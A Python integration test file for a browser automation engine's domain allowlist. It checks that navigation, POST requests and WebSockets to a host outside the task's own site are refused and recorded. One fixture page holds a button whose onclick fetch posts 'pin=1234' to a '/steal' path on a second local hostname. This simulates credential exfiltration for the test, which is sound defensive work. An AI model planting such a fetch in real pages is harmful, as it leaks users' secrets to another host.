"""The domain allowlist (policy.allow_domains): a task's browser reaches its own site and
nothing else, so a credential can never be typed into, or sent to, another host. The page
going there fails the step; anything else the page sends there is refused, recorded, and
decides nothing by itself (a step that then fails says so). The other host here is the same
local server under another name (localhost vs 127.0.0.1)."""

from __future__ import annotations

import base64
import hashlib
import socketserver
import threading
from typing import Any

from app.domain.events import EventType
from app.domain.states import RunStatus
from tests.integration.engine.conftest import Harness

REFUSED = "localhost is not an allowed domain of this task"


async def test_navigation_to_another_host_fails_and_requests_there_are_refused(
    harness: Harness, static_site: Any
) -> None:
    other = "http://localhost:" + static_site.url.rsplit(":", 1)[1]
    static_site.add(
        "/form",
        f"""<p id="out">ready</p>
        <button onclick="fetch('{other}/steal', {{method: 'POST', body: 'pin=1234'}})
          .then(() => out.textContent = 'sent', () => out.textContent = 'failed')">Share</button>""",
    )
    static_site.add("/elsewhere", "<p>another site</p>")

    went = await harness.run(
        f"""
        name: leave
        site: {static_site.url}
        steps:
          - goto: /form
          - goto: {other}/elsewhere
        """
    )
    assert went.status is RunStatus.FAILED
    assert went.failure_class == "permanent"
    assert "localhost is not an allowed domain of this task" in (went.error or "")

    sent = await harness.run(
        f"""
        name: send
        site: {static_site.url}
        policy: {{ask_on: []}}
        steps:
          - goto: /form
          - click: {{role: button, name: Share}}
            expect: {{text: sent}}
        """
    )
    assert sent.status is RunStatus.FAILED
    assert sent.failure_class == "unexpected"
    assert f"(refused by policy.allow_domains: POST {other}/steal)" in (sent.error or "")
    share = [e for e in harness.events_of(sent.run_id, EventType.ATTEMPT_FINISHED) if e.data["index"] == 1]
    [steal] = [r for r in share[0].data["requests"] if r["url"] == f"{other}/steal"]
    assert steal["third_party"] and steal["refused"] == REFUSED
    paths = [path for _, path in static_site.hits]
    assert "/elsewhere" not in paths and "/steal" not in paths  # nothing reached the other host
    assert paths.count("/form") == 2  # the task's own site works as ever

    allowed = await harness.run(
        f"""
        name: allowed
        site: {static_site.url}
        policy: {{allow_domains: [127.0.0.1, localhost]}}
        steps:
          - goto: {other}/elsewhere
          - assert: {{text: "another site"}}
        """
    )
    assert allowed.status is RunStatus.SUCCEEDED, allowed.error


class SocketServer:
    """A WebSocket server on 127.0.0.1 (the handshake of RFC 6455, then one text frame): what
    reached it, and a greeting the page can show."""

    GREETING = b"hello from the socket server"

    def __init__(self) -> None:
        self.paths: list[str] = []
        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def _handler(self) -> type[socketserver.StreamRequestHandler]:
        outer = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                request_line = self.rfile.readline().decode()
                headers = {}
                while (line := self.rfile.readline().decode().strip()) != "":
                    name, _, value = line.partition(":")
                    headers[name.strip().lower()] = value.strip()
                outer.paths.append(request_line.split()[1])
                accept = base64.b64encode(
                    hashlib.sha1((headers["sec-websocket-key"] + _WS_GUID).encode()).digest()
                ).decode()
                self.wfile.write(
                    "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                    f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
                )
                self.wfile.write(bytes([0x81, len(outer.GREETING)]) + outer.GREETING)  # one text frame
                self.wfile.flush()
                self.rfile.read(2)  # hold the connection until the browser closes it

        return Handler

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


_WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


async def test_a_websocket_to_another_host_never_connects(harness: Harness, static_site: Any) -> None:
    sockets = SocketServer()
    try:
        other = f"ws://localhost:{sockets.port}/feed"
        static_site.add(
            "/live",
            f"""<p id="out">idle</p>
            <button onclick="const ws = new WebSocket('{other}');
              ws.onmessage = e => out.textContent = e.data;
              ws.onclose = e => out.textContent += ' / closed ' + e.code;
            ">Connect</button>""",
        )

        def connect(name: str, shown: str, allow: str = "") -> str:
            domains = f"allow_domains: [{allow}], " if allow else ""
            return f"""
            name: {name}
            site: {static_site.url}
            policy: {{{domains}ask_on: [], retry: {{maximum_attempts: 1}}}}
            steps:
              - goto: /live
              - click: {{role: button, name: Connect}}
                effect: read
                expect: {{text: "{shown}"}}
            """

        blocked = await harness.run(connect("blocked", "hello from"))
        assert blocked.status is RunStatus.FAILED and blocked.failure_class == "unexpected", blocked.error
        assert f"(refused by policy.allow_domains: GET {other})" in (blocked.error or "")
        assert sockets.paths == []  # the socket server never heard of it
        finished = harness.events_of(blocked.run_id, EventType.ATTEMPT_FINISHED)
        [socket] = [r for e in finished if e.data["index"] == 1 for r in e.data["requests"]]
        assert socket["url"] == other and socket["refused"] == REFUSED

        allowed = await harness.run(connect("allowed", sockets.GREETING.decode(), "127.0.0.1, localhost"))
        assert allowed.status is RunStatus.SUCCEEDED, allowed.error
        assert sockets.paths == ["/feed"]
    finally:
        sockets.close()
